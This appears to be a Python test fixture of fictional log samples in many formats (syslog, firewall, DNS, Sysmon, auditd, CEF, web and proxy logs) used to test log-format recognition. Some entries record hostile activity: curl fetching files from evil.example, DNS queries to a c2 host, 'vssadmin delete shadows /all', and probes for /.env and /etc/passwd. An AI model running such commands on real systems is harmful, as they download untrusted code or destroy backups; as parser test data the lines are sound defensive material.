"""Logs written for the tests, as the programs write them; people, machines and addresses are fictional."""

# ruff: noqa: E501 — a line of a log is as long as programs write it

SYSLOG = b"""\
<38>Nov 24 18:47:38 web1 sshd[1234]: Failed password for invalid user admin from 203.0.113.7 port 52344 ssh2
Nov  4 08:07:08 web1 sshd-session[99]: Accepted publickey for alice from 192.0.2.10 port 40022 ssh2: ED25519 SHA256:abc
Nov 24 18:47:39 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c id
Nov 24 18:47:39 web1 sudo:    bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh
2026-11-24T18:47:38.123456+01:00 web1 CRON[12]: (root) CMD (/usr/local/bin/sauvegarde --tout)
Nov 24 18:47:40 web1 su[77]: FAILED SU (to root) bob on pts/1
Nov 24 18:47:41 web1 systemd[1]: Started ssh.service - OpenBSD Secure Shell server.
Nov 24 18:47:42 web1 gdm[4]: pam_unix(gdm:auth): authentication failure; logname= uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=carole
Nov 24 18:47:43 web1 sshd[5]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)
Nov 24 18:47:44 web1 usermod[6]: add 'bob' to group 'sudo'
"""
MODERN = (
    b"<34>1 2026-11-24T18:47:38.003Z dpi.valmont.example dpi 111 ID47 "
    b'[acces@32473 patient="12\\"3" unit="a\\]b\\\\c"][origine ip="192.0.2.5"] \xef\xbb\xbfDossier ouvert : \xc3\xa9t\xc3\xa9\n'
    b"<165>1 2026-11-24T19:47:38+01:00 - - - - -\n"
    b"<13>1 - srv app - - - sans date\n"
)
COUNTED = b"".join(
    b"%d %s" % (len(message), message)
    for message in (
        b"<34>1 2026-11-24T18:47:38Z srv app - - - one\ntwo",
        b"<34>1 2026-11-24T18:47:39Z srv app - - - three",
        b"<34>1 2026-11-24T18:47:40Z srv app - - - four\n",
    )
)
FORTIGATE = b"""\
date=2026-11-24 time=18:47:38 devname="FGT-VALMONT" devid="FG100" eventtime=1795542458000000000 tz="+0100" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.1.2.3 srcport=51000 dstip=192.0.2.40 dstport=104 action="deny" proto=6
date=2026-11-24 time=18:47:39 devname="FGT-VALMONT" devid="FG100" tz="+0100" logid="0101039426" type="event" subtype="vpn" level="alert" action="ssl-login-fail" user="bob" remip=203.0.113.9 reason="sslvpn_login_permission_denied"
date=2026-11-24 time=18:47:40 devname="FGT-VALMONT" devid="FG100" tz="+0100" logid="0101039424" type="event" subtype="vpn" level="information" action="tunnel-up" tunneltype="ssl-tunnel" user="alice" remip=203.0.113.9 srccountry="France"
date=2026-11-24 time=18:47:41 devname="FGT-VALMONT" devid="FG100" tz="+0100" logid="0100044546" type="event" subtype="system" level="information" user="admin" action="Add" cfgpath="system.admin" msg="Add system.admin \\"secours\\""
"""
DEVICES = b"""\
<134>Nov 24 18:47:38 filterlog[123]: 5,,,1000000103,igb0,match,block,in,4,0x0,,64,0,0,DF,6,tcp,60,203.0.113.7,192.0.2.1,51000,3389,0,S,1,,65535,,
<134>Nov 24 18:47:38 pf1 filterlog[123]: 5,,,1000000103,igb0,match,pass,in,6,0x00,0x0,64,udp,17,60,2001:db8::7,2001:db8::1,51000,53,40
Nov 24 18:47:38 fw1 kernel: [12345.678] FW-DROP: IN=eth0 OUT= MAC=aa:bb SRC=203.0.113.7 DST=192.0.2.1 LEN=60 TTL=54 PROTO=TCP SPT=51000 DPT=22 SYN URGP=0
<166>Nov 24 2026 18:47:38 asa1 : %ASA-4-106023: Deny tcp src outside:203.0.113.7/1234 dst inside:10.1.1.1/3389 by access-group "out" [0x0, 0x0]
<166>Nov 24 2026 18:47:38: %ASA-6-302013: Built inbound TCP connection 9 for outside:203.0.113.7/51000 (203.0.113.7/51000) to inside:10.1.1.1/443 (192.0.2.1/443)
<166>Nov 24 2026 18:47:38 asa1 : %ASA-6-302013: Built outbound TCP connection 9 for outside:203.0.113.7/443 (203.0.113.7/443) to inside:10.1.1.1/51000 (192.0.2.1/51000)
<166>Nov 24 2026 18:47:38 asa1 : %ASA-6-113015: AAA user authentication Rejected : reason = Invalid password : local database : user = bob : user IP = 203.0.113.9
<166>Nov 24 2026 18:47:38 asa1 : %ASA-6-113039: Group <VPN> User <alice> IP <203.0.113.9> AnyConnect parent session started.
Nov 24 18:47:38 dns1 dnsmasq[1]: query[A] c2.evil.example from 10.0.0.5
Nov 24 18:47:38 dns1 dnsmasq[1]: reply c2.evil.example is 203.0.113.66
Nov 24 18:47:38 dns2 named[1]: client @0x7f01 10.1.2.3#5353 (c2.evil.example): query: c2.evil.example IN TXT +E(0)K (10.0.0.53)
Nov 24 18:47:38 dns3 unbound[9]: [9:0] info: 10.0.0.5 c2.evil.example. A IN
Nov 24 18:47:38 vpn1 openvpn[9]: 203.0.113.7:51000 [alice] Peer Connection Initiated with [AF_INET]203.0.113.7:51000
Nov 24 18:47:38 vpn1 ovpn-server[9]: 203.0.113.7:51000 TLS Auth Error: Auth Username/Password verification failed for peer
Nov 24 18:47:38 vpn2 charon: 05[IKE] IKE_SA nomade[3] established between 192.0.2.1[vpn.valmont.example]...203.0.113.7[alice@valmont.example]
Nov 24 18:47:38 esx1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593}"/><EventID>1</EventID><Version>5</Version><TimeCreated SystemTime="2026-11-24T18:47:38.1234567Z"/><EventRecordID>7</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>esx1</Computer><Security UserId="0"/></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl http://evil.example/?a=1&amp;b=2</Data><Data Name="RuleName"/><Data Name="User">root</Data></EventData></Event>
Nov 24 18:47:38 siem CEF:0|Valmont|Antivirus|1.0|100|Menace \\| d\xc3\xa9tect\xc3\xa9e|8|src=192.0.2.10 suser=alice cs1=Salle 3 cs1Label=Lieu rt=1795546058000 msg=a\\=b
Nov 24 18:47:38 srv1 audispd: node=srv1 type=USER_AUTH msg=audit(1795546058.123:77): pid=5 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.7 addr=203.0.113.7 terminal=ssh res=failed'
"""
AUDIT = b"""\
type=SYSCALL msg=audit(1795546058.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=10 a2=20 a3=8 items=2 ppid=1000 pid=1001 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"
type=EXECVE msg=audit(1795546058.123:456): argc=4 a0="curl" a1="-o" a2=2F746D702F6120622E7368 a3="http://evil.example/a"
type=CWD msg=audit(1795546058.123:456): cwd="/home/alice"
type=PATH msg=audit(1795546058.123:456): item=0 name="/usr/bin/curl" inode=1 nametype=NORMAL
type=PROCTITLE msg=audit(1795546058.123:456): proctitle=6375726C002D6F00612062
type=USER_LOGIN msg=audit(1795546059.000:457): pid=9 uid=0 auid=1000 ses=4 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=? addr=203.0.113.7 terminal=ssh res=success'
type=SYSCALL msg=audit(1795546060.000:458): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7f a2=10 a3=0 items=0 ppid=1 pid=7 auid=1000 uid=33 comm="sh" exe="/bin/dash" key=(null)
type=SOCKADDR msg=audit(1795546060.000:458): saddr=02001F90CB0071070000000000000000
"""
CEF = b"""\
CEF:0|Valmont|Antivirus|1.0|100|Menace \\| neutralis\xc3\xa9e|8|src=192.0.2.10 suser=alice cs1=Salle 3 cs1Label=Lieu rt=1795546058000 msg=ligne un\\nligne a\\=b
CEF:0|Stormshield|SNS|4|alarm|Filtre|5|src=203.0.113.7 spt=51000 dst=192.0.2.1 dpt=3389 act=block rt=Nov 24 2026 18:47:38
LEEF:1.0|Valmont|Bastion|2|login|src=203.0.113.9\tusrName=bob\tdevTime=Nov 24 2026 18:47:38
LEEF:2.0|Valmont|Bastion|2|login|^|src=203.0.113.9^usrName=carole^devTime=1795546058000
"""
PAIRS = b"""\
ts=2026-11-24T18:47:38Z level=info msg="dossier ouvert par \\"alice\\"" user=alice duree=1.5ms
ts=2026-11-24T18:47:39Z level=warn msg="lent" user=bob duree=2s vide=
"""
ACCESS = b"""\
203.0.113.7 - alice [24/Nov/2026:18:47:38 +0100] "GET /portail.php?id=1%27%20OR HTTP/1.1" 200 512 "https://www.valmont.example/" "Mozilla/5.0 \\"test\\""
www.valmont.example:443 192.0.2.9 - - [24/Nov/2026:18:47:39 +0100] "POST /connexion HTTP/2.0" 302 - "-" "curl/8.5"
203.0.113.8 - - [24/Nov/2026:18:47:40 +0100] "\\x16\\x03\\x01" 400 157 "-" "-"
192.0.2.9 - - [24/Nov/2026:18:47:41 +0100] "GET / HTTP/1.0" 200 12
"""
IIS = b"""\
#Software: Microsoft Internet Information Services 10.0\r
#Version: 1.0\r
#Date: 2026-11-24 18:47:38\r
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status time-taken\r
2026-11-24 18:47:38 192.0.2.2 GET /owa/ a=1 443 - 203.0.113.7 Mozilla/5.0+(Windows) - 200 5\r
#Fields: date time c-ip cs-method cs-uri-stem\r
2026-11-24 18:47:39 203.0.113.8 POST /ecp/\r
"""
PROXY = b"""\
#Software: SGOS 6.7\r
#Fields: date time time-taken c-ip cs-username s-action sc-status cs-method cs-uri-scheme cs-host cs-uri-path cs-uri-query cs(User-Agent) r-ip\r
2026-11-24 18:47:38 12 10.0.0.7 alice TCP_NC_MISS 200 GET http evil.example /a/b.exe ?x=1 "Mozilla 5 test" 203.0.113.9\r
"""
SQUID = b"""\
1795546058.123    120 10.0.0.7 TCP_MISS/200 1234 GET http://evil.example/a.exe?x=1 alice HIER_DIRECT/203.0.113.9 application/octet-stream
1795546059.456     12 10.0.0.8 TCP_DENIED/403 99 CONNECT drive.example:443 - HIER_NONE/- text/html
"""
CSV = """\
Date;Agent;Poste;Patient;Action
24/11/2026 18:47:38;alice;PC-URG-1;123;Lecture
24/11/2026 18:47:39;bob;PC-URG-2;"12;4";"Dit ""urgent""
sur deux lignes"
24/11/2026 18:47:40;hélène;PC-URG-3;125;Export
""".encode()
VIEWER = (
    "Niveau,Date et heure,Source,ID de l’événement,Catégorie de la tâche\r\n"
    "Information,24/11/2026 18:47:38,Microsoft-Windows-Sysmon,1,Process Create (rule: ProcessCreate),"
    '"Process Create:\r\nImage: C:\\Windows\\System32\\vssadmin.exe\r\nCommandLine: vssadmin delete shadows /all"\r\n'
    "Information,24/11/2026 18:47:39,Microsoft-Windows-Security-Auditing,4625,Logon,Échec d’ouverture de session.\r\n"
).encode()
BIND = b"""\
24-Nov-2026 18:47:38.123 queries: info: client @0x7f01 10.1.2.3#5353 (c2.evil.example): query: c2.evil.example IN A +E(0)K (10.0.0.53)
24-Nov-2026 18:47:38.124 client 10.1.2.4#5353 (c2.evil.example): query: c2.evil.example IN AAAA + (10.0.0.53)
"""
UNBOUND = b"""\
[1795546058] unbound[9:0] info: 10.0.0.5 c2.evil.example. A IN
[1795546059] unbound[9:0] info: service stopped (unbound 1.19.0).
"""
OPENVPN = b"""\
2026-11-24 18:47:38 203.0.113.7:51000 TLS: Initial packet from [AF_INET]203.0.113.7:51000, sid=1
2026-11-24 18:47:39 203.0.113.7:51000 [alice] Peer Connection Initiated with [AF_INET]203.0.113.7:51000
2026-11-24 18:47:40 203.0.113.8:51000 TLS Auth Error: Auth Username/Password verification failed for peer
"""
NGINX_ERRORS = b"""\
2026/11/24 18:47:38 [error] 12#12: *1 open() "/srv/.env" failed (2: No such file or directory), client: 203.0.113.7, server: www, request: "GET /.env HTTP/1.1", host: "www"
"""
APACHE_ERRORS = b"""\
[Tue Nov 24 18:47:38.123456 2026] [core:error] [pid 9:tid 7] [client 203.0.113.7:51000] AH00126: Invalid URI in request GET /../etc/passwd HTTP/1.1
[Tue Nov 24 18:47:39.000000 2026] [mpm_event:notice] [pid 1:tid 1] AH00489: Apache configured
"""
SAMPLES = {
    "syslog": [SYSLOG, MODERN, COUNTED, DEVICES],
    "auditd": [AUDIT],
    "cef": [CEF],
    "pairs": [PAIRS, FORTIGATE],
    "access": [ACCESS],
    "w3c": [IIS, PROXY],
    "squid": [SQUID],
    "daemon": [BIND, UNBOUND, OPENVPN, NGINX_ERRORS, APACHE_ERRORS],
    "csv": [CSV, VIEWER, CSV.decode().encode("cp1252"), b"\xef\xbb\xbf" + CSV],
}
"""By format, what it must recognise as its own."""
